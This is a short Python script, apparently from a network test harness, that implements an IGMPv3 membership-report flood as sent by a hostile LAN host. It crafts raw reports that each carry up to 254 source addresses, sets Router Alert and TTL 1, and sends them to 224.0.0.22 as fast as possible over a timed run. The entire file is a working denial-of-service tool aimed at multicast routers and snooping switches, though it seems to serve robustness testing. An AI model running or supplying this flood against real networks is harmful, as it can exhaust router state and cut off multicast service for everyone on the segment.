"""A source-heavy IGMPv3 flood, as one hostile LAN host sends it (python3 standard library only).

Usage: v3_flood.py SRC_ADDR COUNT SECONDS SOURCES GROUPS

Sends up to COUNT IGMPv3 membership reports from SRC_ADDR (an address of this namespace) to
224.0.0.22 within at most SECONDS, as fast as the socket takes them: each holds one
MODE_IS_INCLUDE record with SOURCES sources (203.0.113.1, ...; at most 254) for one of GROUPS
groups 239.1.x.y, taken in turn. Router Alert set, TTL 1. Prints "sent N in S s" at the end.
"""
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return (~s) & 0xFFFF


def report(group, nsrc):
    sources = b"".join(socket.inet_aton("203.0.113.%d" % (1 + i)) for i in range(nsrc))
    record = struct.pack("!BBH4s", 1, 0, nsrc, socket.inet_aton(group)) + sources
    msg = bytearray(struct.pack("!BBHHH", 0x22, 0, 0, 0, 1) + record)
    struct.pack_into("!H", msg, 2, csum(bytes(msg)))
    return bytes(msg)


def main():
    src, count, seconds, nsrc, ngroups = sys.argv[1:6]
    count, seconds, nsrc, ngroups = int(count), float(seconds), int(nsrc), int(ngroups)
    nsrc = max(0, min(nsrc, 254))
    packets = [report("239.1.%d.%d" % (g // 250, 1 + g % 250), nsrc) for g in range(ngroups)]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_IGMP)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x94\x04\x00\x00")
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(src))
    dst = ("224.0.0.22", 0)
    start = time.monotonic()
    end = start + seconds
    sent = 0
    n = len(packets)
    while sent < count:
        for _ in range(256):
            s.sendto(packets[sent % n], dst)
            sent += 1
        if time.monotonic() >= end:
            break
    print("sent %d in %.3f s" % (sent, time.monotonic() - start), flush=True)


main()
